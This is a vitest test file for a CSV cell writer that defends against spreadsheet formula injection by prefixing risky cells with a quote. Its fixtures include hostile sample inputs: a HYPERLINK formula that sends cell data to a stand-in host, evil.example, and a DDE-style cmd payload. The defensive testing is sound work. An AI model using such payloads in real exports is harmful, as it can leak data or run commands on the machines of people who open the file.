import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv-row.js';

describe('a CSV cell as Leadflow writes it', () => {
  it('puts a single quote before a cell a spreadsheet would run as a formula, and quotes it', () => {
    const cells: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
      ['=1+1', `"'=1+1"`],
      ['+1+cmd|\' /C calc\'!A0', `"'+1+cmd|' /C calc'!A0"`],
      ['-2+3', `"'-2+3"`],
      ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ['+1 201 555 0123', `"'+1 201 555 0123"`],
      ['-', `"'-"`],
      ['+', `"'+"`],
      ['=', `"'="`],
    ];
    for (const [value, written] of cells) expect(csvCell(value), JSON.stringify(value)).toBe(written);
  });

  it('writes a plain number as it is, signed or not: an E.164 phone, a negative amount', () => {
    for (const value of ['+12015550123', '-12', '-0.35', '+3.5', '-.5', '42', '0.25', '7.']) expect(csvCell(value), value).toBe(value);
    expect(csvCell(-12.5)).toBe('-12.5');
    // alternate_phones: E.164 numbers, ;-separated.
    expect(csvCell('+12015550201;+12015550301')).toBe('+12015550201;+12015550301');
    expect(csvCell('+12015550201;=1+1')).toBe(`"'+12015550201;=1+1"`);
    expect(csvCell('-1;')).toBe(`"'-1;"`);
  });

  it('leaves every other cell as RFC 4180 writes it, quoted only when it must be', () => {
    expect(csvCell('ann@example.com')).toBe('ann@example.com');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('Lee, Robert')).toBe('"Lee, Robert"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(' padded')).toBe('" padded"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('ends a record with CRLF, each cell escaped', () => {
    expect(csvRow(['Ann', '=1+1', '+12015550123', '-1-1', null])).toBe(`Ann,"'=1+1",+12015550123,"'-1-1",\r\n`);
  });
});
